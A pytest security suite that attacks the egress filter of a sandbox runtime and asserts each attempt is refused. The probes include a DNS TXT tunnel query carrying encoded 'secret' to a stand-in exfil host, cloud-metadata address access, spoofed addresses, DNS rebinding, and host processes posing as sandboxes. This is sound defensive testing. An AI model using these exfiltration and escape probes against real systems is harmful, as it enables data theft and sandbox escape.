"""Attacks on the egress filter of sandboxes with a network policy (runtime/net).

Each test runs real code in a real policy sandbox against servers in network
namespaces the test made (tests/security/net_helpers.py, TEST-NET-2 addresses that
never leave this host); names reach corral's resolver through the engine's
``network_hosts`` mapping (the daemon side), never through the sandbox.
"""

from __future__ import annotations

import asyncio
import json
import socket
import tempfile

import pytest

from tests.conftest import ROOT_REASON, have_root_runtime
from tests.security.net_helpers import connect_proxy, ipv6_on, no_host_proxy, run_probes, server_ns  # noqa: F401  (a fixture)

pytestmark = pytest.mark.skipif(not have_root_runtime(), reason=ROOT_REASON)

# Runs in the sandbox: each probe prints [outcome, seconds].
PROBE = r"""
import json, socket, struct, sys, time
def http(host, ip=None, port=80):
    t = time.monotonic()
    try:
        s = socket.create_connection((ip or host, port), timeout=10)
        s.sendall(b"GET / HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
        data = b""
        while chunk := s.recv(4096):
            data += chunk
        out = data.split(b"\r\n\r\n", 1)[-1].decode()
    except Exception as e:
        out = type(e).__name__
    return [out, time.monotonic() - t]
def dns(name, qtype=1):
    q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!2H", qtype, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(q, ("192.0.2.53", 53))  # any server: all DNS goes to corral's resolver
    r = u.recv(512)
    return [r[3] & 0xF, struct.unpack("!H", r[6:8])[0]]  # rcode, answers
print(json.dumps({k: eval(v) for k, v in json.loads(sys.argv[1]).items()}))
"""


async def probe(engine, sid: str, **probes: str) -> dict:
    return await run_probes(engine, sid, PROBE, probes)


@pytest.fixture
async def servers():
    """Two servers: ``good`` (answers "GOOD") and ``bad`` ("BAD"), named good.test and
    bad.test for corral's resolver; and an engine that knows those names."""
    from corral.runtime.engine import Engine

    with server_ns(2, "GOOD") as good, server_ns(6, "BAD") as bad:
        eng = await Engine.open(tempfile.mkdtemp(prefix="corral-test-state-"),
                                network_hosts={"good.test": good, "bad.test": bad})
        try:
            yield eng, good, bad
        finally:
            await eng.close()


async def test_allowed_name_reached_denied_name_refused(servers):
    engine, good, bad = servers
    sb = await engine.create(network={"allow": ["good.test"]})
    got = await probe(engine, sb.id, good='http("good.test")', bad='http("bad.test")',
                      bad_ip=f'http("x", ip="{bad}")')
    assert got["good"][0] == "GOOD GET / HTTP/1.0"
    assert got["bad"][0] == "gaierror"  # NXDOMAIN: the name does not exist for it
    # not allowed: reset at once (a filter that dropped it would time out after 10 s;
    # no wall-clock bound here: the tests run under load)
    assert got["bad_ip"][0] == "ConnectionResetError"
    other = await engine.create(network={"allow": ["bad.test"]})
    got = await probe(engine, other.id, good='http("good.test")')
    assert got["good"][0] == "gaierror"
    events = engine.network_events(sb.id)
    assert any({"kind": "tcp", "name": "good.test", "ip": good, "port": 80,
                "verdict": "allowed"}.items() <= e.items() for e in events)
    refused = [e for e in events if e["verdict"] == "refused"]
    assert {(e["kind"], e["name"]) for e in refused} >= {("dns", "bad.test")}
    assert any(e["kind"] == "tcp" and e["ip"] == bad for e in refused)


async def test_spoofed_address_reaches_only_the_allowed_server(servers):
    """The sandbox's own idea of where good.test lives (its /etc/hosts, a forged DNS
    answer) gains nothing: the proxy dials the allowed *name* itself."""
    engine, good, bad = servers
    sb = await engine.create(network={"allow": ["good.test"]})
    got = await probe(engine, sb.id, spoof=f'http("good.test", ip="{bad}")',
                      spoof_host=f'http("bad.test", ip="{good}")')
    assert got["spoof"][0] == "GOOD GET / HTTP/1.0"  # not BAD
    assert got["spoof_host"][0] == "ConnectionResetError"


async def test_dns_answers_allowed_names_only(servers):
    """Only allowed names are answered; a disallowed one (a TXT tunnel's) is never even
    looked up on the host: nothing of it leaves."""
    engine, _, _ = servers
    sb = await engine.create(network={"allow": ["good.test"]})
    looked_up: list[str] = []
    real = engine.net.resolve

    async def resolve(name: str) -> list[str]:
        looked_up.append(name)
        return await real(name)

    engine.net.resolve = resolve
    got = await probe(engine, sb.id, a='dns("good.test")', no='dns("bad.test")',
                      txt='dns("c2VjcmV0.exfil.example", 16)', aaaa='dns("good.test", 28)')
    assert got["a"] == [0, 1]
    assert got["no"] == [3, 0] and got["txt"] == [3, 0]  # NXDOMAIN
    assert got["aaaa"] == [0, 0]  # no IPv6: an empty answer
    assert set(looked_up) == {"good.test"}


async def test_ipv6_and_udp_refused_fast(servers):
    """(IPv6 allowed and the UDP relay: tests/security/test_network_udp_ipv6.py.)"""
    engine, _, _ = servers
    # UDP to an address no rule names (with a port) is refused; 0.0.0.0/0 alone opens UDP
    sb = await engine.create(network={"allow": ["*", "0.0.0.0/0:443"]})
    code = r"""
import json, socket, time
out = {}
for name, fam, addr in (("v6", socket.AF_INET6, ("2001:db8::1", 7000)),
                        ("v6_mapped", socket.AF_INET6, ("::ffff:127.0.0.1", 80))):
    t = time.monotonic()
    try:
        s = socket.create_connection(addr, timeout=10); s.sendall(b"x"); s.recv(10)
        out[name] = "answered"
    except Exception as e:
        out[name] = type(e).__name__
    out[name + "_s"] = time.monotonic() - t
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.connect(("198.51.100.2", 7000))
u.send(b"x"); t = time.monotonic()
try:
    u.recv(10); out["udp"] = "answered"
except Exception as e:
    out["udp"] = type(e).__name__
out["udp_s"] = time.monotonic() - t
print(json.dumps(out))
"""
    r = await engine.exec(sb.id, ["python3", "-c", code], timeout=60)
    got = json.loads(r.stdout)
    # IPv6 goes through the filter as IPv4 does: "0.0.0.0/0" names no IPv6 address
    # a reset, not a timeout (a host without IPv6: no route, at once)
    assert got["v6"] == ("ConnectionResetError" if ipv6_on() else "OSError")
    assert got["v6_mapped"] == "ConnectionRefusedError"  # its own loopback (IPv4 really)
    assert got["udp"] == "ConnectionRefusedError"  # ICMP unreachable, not a 5 s timeout


async def test_never_reachable_under_any_policy(servers):
    """The host's services (loopback, its own addresses, the link's host end), another
    sandbox, and the metadata address: refused even by a policy that allows the
    whole internet (and, but for the metadata address, names their ranges)."""
    engine, _, _ = servers
    host_srv = socket.socket()
    host_srv.bind(("0.0.0.0", 0))  # as a daemon on TCP would be: every host address
    host_srv.listen()
    port = host_srv.getsockname()[1]
    try:
        # the host's and the links' ranges named explicitly: still never; the metadata
        # address: only by a rule naming its range (not tested: no traffic leaves)
        wide = {"allow": ["*", "0.0.0.0/0", "127.0.0.0/8", "10.0.0.0/8"]}
        target = await engine.create(network=wide)
        await engine.exec(target.id, "nohup python3 -m http.server 8000 >/dev/null 2>&1 &",
                          timeout=30)
        sb = await engine.create(network=wide)
        host_end = engine.net._by_id[sb.id].link.host_ip
        other = engine.net._by_id[target.id].link.sandbox_ip
        other_host_end = engine.net._by_id[target.id].link.host_ip
        await asyncio.sleep(0.5)
        got = await probe(
            engine, sb.id, host_end=f'http("x", ip="{host_end}", port={port})',
            other=f'http("x", ip="{other}", port=8000)',
            other_end=f'http("x", ip="{other_host_end}", port={port})',
            meta='http("x", ip="169.254.169.254")',
            meta_name='http("169.254.169.254")',
        )
        for key, (outcome, _) in got.items():
            assert outcome == "ConnectionResetError", (key, outcome)  # a reset, not a hang
        reasons = [e["reason"] for e in engine.network_events(sb.id) if e["verdict"] == "refused"]
        assert sum("never reachable" in r for r in reasons) >= 3
    finally:
        host_srv.close()


async def test_update_network_cuts_a_live_connection(servers):
    engine, good, _ = servers
    sb = await engine.create(network={"allow": [f"{good}:7000"]})
    code = f"""
import socket, sys, time
s = socket.create_connection(("{good}", 7000), timeout=30)
s.sendall(b"ping"); print(s.recv(10).decode(), flush=True)
open("/tmp/connected", "w").close()
try:
    print(repr(s.recv(10)), flush=True)
except Exception as e:
    print(type(e).__name__, flush=True)
"""
    task = asyncio.create_task(engine.exec(sb.id, ["python3", "-c", code], timeout=60))
    for _ in range(200):
        r = await engine.exec(sb.id, ["test", "-e", "/tmp/connected"], timeout=10)
        if r.returncode == 0:
            break
        await asyncio.sleep(0.05)
    await engine.update_network(sb.id, {"allow": ["good.test"]})
    r = await task
    assert r.stdout.decode().split() == ["ping", "ConnectionResetError"]
    assert engine.network_events(sb.id)[-1]["reason"].startswith("cut")
    got = await probe(engine, sb.id, good='http("good.test")')  # the new policy holds
    assert got["good"][0] == "GOOD GET / HTTP/1.0"


async def test_none_and_host_have_no_filter_to_change(servers):
    from corral.errors import InvalidState

    engine, _, _ = servers
    sb = await engine.create()
    with pytest.raises(InvalidState):
        await engine.update_network(sb.id, {"allow": ["good.test"]})
    with pytest.raises(InvalidState):
        engine.network_events(sb.id)


async def test_links_of_a_killed_daemon_are_swept(servers, tmp_path):
    """A namespace whose owner died (its lock free) is removed when a filter starts."""
    from corral.runtime.net import netns
    from corral.runtime.net.manager import NetworkManager

    engine, _, _ = servers
    await engine.create(network={"allow": ["good.test"]})  # its filter is up
    links = engine.net.links
    orphan = links.acquire()
    netns.setup(orphan, engine.net.table)
    links.release(orphan)  # as if its daemon were killed: nobody holds the lock
    assert orphan.netns_path.exists()
    other = NetworkManager("etest" + tmp_path.name[-6:], links.lock_dir, warm=0)
    try:
        await other._start()
        assert not orphan.netns_path.exists()
        assert all(att.link.netns_path.exists() for att in engine.net._by_id.values())
    finally:
        await other.close()


async def test_pypi_preset_downloads_from_the_configured_index_only(tmp_path, monkeypatch):
    """``"pypi"`` is the index the daemon's pip is configured with (PIP_INDEX_URL here,
    a test index in a namespace the test made): pip in the sandbox downloads a wheel
    from it, and the policy reaches nothing else."""
    import shutil as sh
    from pathlib import Path

    from corral.runtime.engine import Engine
    from corral.runtime.net import policy

    wheels = sorted(Path("/opt/pypi/files").glob("six-*.whl")) if Path(
        "/opt/pypi/files").is_dir() else []
    if not wheels:
        pytest.skip("no six wheel in the machine's local package index to serve")
    index = tmp_path / "index"
    (index / "simple" / "six").mkdir(parents=True)
    (index / "files").mkdir()
    sh.copy(wheels[-1], index / "files")
    (index / "simple" / "six" / "index.html").write_text(
        f'<a href="../../files/{wheels[-1].name}">{wheels[-1].name}</a>')
    index.chmod(0o755)
    monkeypatch.setenv("PIP_INDEX_URL", "http://pypi.test/simple")
    monkeypatch.delenv("PIP_EXTRA_INDEX_URL", raising=False)
    policy.pip_index_hosts.cache_clear()
    try:
        with server_ns(22, "", serve_dir=str(index)) as ip, server_ns(26, "BAD") as bad:
            engine = await Engine.open(tempfile.mkdtemp(prefix="corral-test-state-"),
                                       network_hosts={"pypi.test": ip, "bad.test": bad})
            try:
                sb = await engine.create(network={"allow": ["pypi"]}, memory_mb=512)
                r = await engine.exec(sb.id, [
                    "python3", "-m", "pip", "download", "--no-deps", "--no-cache-dir",
                    "--index-url", "http://pypi.test/simple", "--trusted-host", "pypi.test",
                    "-d", "/tmp/dl", "six"],
                    timeout=300)
                if b"No module named pip" in r.stderr:
                    pytest.skip("the image has no pip")
                assert r.returncode == 0, r.stderr.decode()[-2000:]
                ls = await engine.exec(sb.id, ["ls", "/tmp/dl"], timeout=30)
                assert ls.stdout.decode().strip() == wheels[-1].name
                got = await probe(engine, sb.id, bad='http("bad.test")',
                                  bad_ip=f'http("x", ip="{bad}")')
                assert got["bad"][0] == "gaierror" and got["bad_ip"][0] == "ConnectionResetError"
            finally:
                await engine.close()
    finally:
        policy.pip_index_hosts.cache_clear()


async def test_a_host_process_cannot_pose_as_a_sandbox(servers):
    """A host process that binds a sandbox's address (IP_FREEBIND needs no privilege)
    and talks to the proxy gets nothing: it would otherwise get the sandbox's policy (the
    proxy knows sandboxes by address). Here the kernel refuses the route already
    (ENETUNREACH); the table's rule against link addresses off the links backs it."""
    engine, _, _ = servers
    sb = await engine.create(network={"allow": ["good.test"]})
    link = engine.net._by_id[sb.id].link
    before = len(engine.network_events(sb.id))

    def pose() -> str:
        s = socket.socket()
        s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        s.bind((link.sandbox_ip, 0))
        s.settimeout(2)
        try:
            s.connect((link.host_ip, engine.net._proxy.port))
            s.sendall(b"GET / HTTP/1.0\r\nHost: good.test\r\n\r\n")
            return s.recv(100).decode() or "closed"
        except OSError as exc:
            return f"{type(exc).__name__} {exc}"
        finally:
            s.close()

    got = await asyncio.to_thread(pose)
    assert got.startswith(("TimeoutError", "timeout", "OSError")), got  # never an answer
    assert len(engine.network_events(sb.id)) == before  # the proxy never saw it


async def test_idle_connections_count_against_the_cap(servers, monkeypatch):
    """Connections held open without a request (no name yet) count against the
    sandbox's cap, so one sandbox cannot pile up the daemon's descriptors; closed ones
    give their place back."""
    from corral.runtime.net import proxy
    from corral.runtime.net.manager import MAX_CONNECTIONS

    # the proxy resets a connection that names nothing within PEEK_TIMEOUT_S; opening
    # 276 of them can take longer than that on a loaded host, and the first ones would
    # then be reset for idling, not for the cap this test is about
    monkeypatch.setattr(proxy, "PEEK_TIMEOUT_S", 600.0)

    engine, _, _ = servers
    sb = await engine.create(network={"allow": ["good.test"]})
    code = f"""
import json, socket, time
held, refused, early = [], set(), 0
for _ in range({MAX_CONNECTIONS} + 20):
    try:
        s = socket.create_connection(("good.test", 80), timeout=10)
    except ConnectionResetError:  # reset before connect() returned
        early += 1
        continue
    s.setblocking(False)
    held.append(s)
for _ in range(300):  # the proxy resets the ones over the cap (polled: the host is loaded)
    for i, s in enumerate(held):
        try:
            if s.recv(1) == b"":
                refused.add(i)
        except BlockingIOError:
            pass
        except ConnectionResetError:
            refused.add(i)
    if len(refused) + early >= 20:
        break
    time.sleep(0.1)
for s in held:
    s.close()
for _ in range(100):  # their places come back as the proxy sees them close
    try:
        s = socket.create_connection(("good.test", 80), timeout=10)
        s.sendall(b"GET / HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n")
        data = b""
        while chunk := s.recv(4096):
            data += chunk
        break
    except ConnectionResetError:
        time.sleep(0.1)
refused = len(refused) + early
print(json.dumps({{"refused": refused, "after": data.split(b"\\r\\n\\r\\n", 1)[-1].decode()}}))
"""
    r = await engine.exec(sb.id, ["python3", "-c", code], timeout=120)
    assert r.returncode == 0, r.stderr.decode()
    got = json.loads(r.stdout)
    assert got["refused"] == 20
    assert got["after"] == "GOOD GET / HTTP/1.0"
    assert any("connections at once" in e["reason"] for e in engine.network_events(sb.id))


async def test_bandwidth_cap_on_both_ends_out_of_the_sandboxs_reach(servers):
    """``max_mbps`` shapes both ends of the link (token buckets the sandbox, without
    capabilities in the namespace, cannot remove); update_network changes or lifts it."""
    import subprocess as sp

    engine, good, _ = servers
    sb = await engine.create(network={"allow": ["good.test"], "max_mbps": 8})
    link = engine.net._by_id[sb.id].link

    def qdiscs() -> str:
        return (sp.run(["tc", "qdisc", "show", "dev", link.host_if], capture_output=True,
                       text=True).stdout
                + sp.run(["tc", "-n", link.netns, "qdisc", "show", "dev", "eth0"],
                         capture_output=True, text=True).stdout)

    assert qdiscs().count("rate 8Mbit") == 2
    r = await engine.exec(sb.id, "tc qdisc del dev eth0 root 2>&1; ip link set eth0 down 2>&1",
                          timeout=30)
    assert qdiscs().count("rate 8Mbit") == 2  # not the sandbox's to change
    await engine.update_network(sb.id, {"allow": ["good.test"], "max_mbps": 100})
    assert qdiscs().count("rate 100Mbit") == 2
    await engine.update_network(sb.id, {"allow": ["good.test"]})
    assert "tbf" not in qdiscs()
    got = await probe(engine, sb.id, good='http("good.test")')
    assert got["good"][0] == "GOOD GET / HTTP/1.0", r


async def test_allowed_traffic_goes_through_the_hosts_proxy(tmp_path, monkeypatch):
    """With HTTPS_PROXY / HTTP_PROXY set on the daemon, allowed connections leave
    through that proxy (CONNECT, to the address judged); refused ones never reach it.

    DNS rebinding through the proxy: ``rebind.test`` resolves on the host (where corral
    judges it) to the good server, but at the proxy to the bad one (standing for the
    proxy's loopback or the cloud's metadata address). Before, corral asked the proxy
    for the name (``CONNECT rebind.test:80``), and the proxy dialed its own answer."""
    from corral.runtime.engine import Engine

    with server_ns(2, "GOOD") as good, server_ns(6, "BAD") as bad:
        log = tmp_path / "proxy.log"
        log.write_text("")
        with connect_proxy(str(log), f"good.test={good},rebind.test={bad}") as port:
            for var in ("HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy"):
                monkeypatch.setenv(var, f"http://127.0.0.1:{port}")
            for var in ("NO_PROXY", "no_proxy"):
                monkeypatch.delenv(var, raising=False)
            engine = await Engine.open(tempfile.mkdtemp(prefix="corral-test-state-"),
                                       network_hosts={"good.test": good, "bad.test": bad,
                                                      "rebind.test": good})
            try:
                sb = await engine.create(network={"allow": ["good.test", "rebind.test"]})
                got = await probe(engine, sb.id, good='http("good.test")',
                                  forged=f'http("good.test", ip="{bad}")',
                                  bad=f'http("bad.test", ip="{bad}")',
                                  rebind='http("rebind.test")')
            finally:
                await engine.close()
        assert got["good"][0] == "GOOD GET / HTTP/1.0"
        assert got["forged"][0] == "GOOD GET / HTTP/1.0"
        assert got["bad"][0] == "ConnectionResetError"
        assert got["rebind"][0] == "GOOD GET / HTTP/1.0", got["rebind"]  # not the proxy's answer
        assert sorted(log.read_text().splitlines()) == [f"CONNECT {good}:80 HTTP/1.1"] * 3
